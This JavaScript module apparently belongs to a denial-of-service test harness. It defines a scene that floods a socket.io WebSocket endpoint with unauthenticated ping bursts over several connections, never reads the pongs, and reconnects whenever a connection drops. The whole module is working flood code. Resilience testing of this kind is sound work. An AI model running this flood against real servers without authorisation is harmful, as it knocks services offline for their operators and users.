import { bareWebSocket, frame, PING, sleep } from '../client.mjs';

const CONNECTIONS = 4;

export const scene = pingScene(
  'B4-engine',
  'WebSocket pings before any authentication, pongs never read: /socket.io/',
  ['/socket.io/?EIO=4&transport=websocket'],
);

/** Each ping wants an answer, and nobody reads the answers. */
export function pingScene(id, title, paths) {
  return {
    id,
    title,
    prepare: async () => ({ paths }),
    async attack({ url, facts, got, isOver }) {
      const one = frame(PING, 'x'.repeat(125));
      const burst = Buffer.concat(Array(500).fill(one));
      await Promise.all(
        facts.paths.flatMap((path) =>
          Array.from({ length: CONNECTIONS }, async () => {
            while (!isOver()) {
              const socket = await bareWebSocket(url, path, { reads: false }).catch((error) => {
                got.add(error.message);
              });
              if (socket === undefined) {
                await sleep(100);
                continue;
              }
              let isClosed = false;
              socket.on('close', () => (isClosed = true));
              while (!isOver() && !isClosed) {
                got.add('pings', 500);
                const isTaken = socket.write(burst);
                await (isTaken ? sleep(1) : Promise.race([drained(socket), sleep(500)]));
                // A server that reads no more is not flooded any more; one that does is written to on and on.
                if (socket.writableLength > 4_000_000) await sleep(200);
              }
              if (isClosed) got.add('closed');
              socket.destroy();
            }
          }),
        ),
      );
      return {};
    },
  };
}

function drained(socket) {
  return new Promise((resolve) => {
    socket.once('drain', resolve);
    socket.once('close', resolve);
  });
}
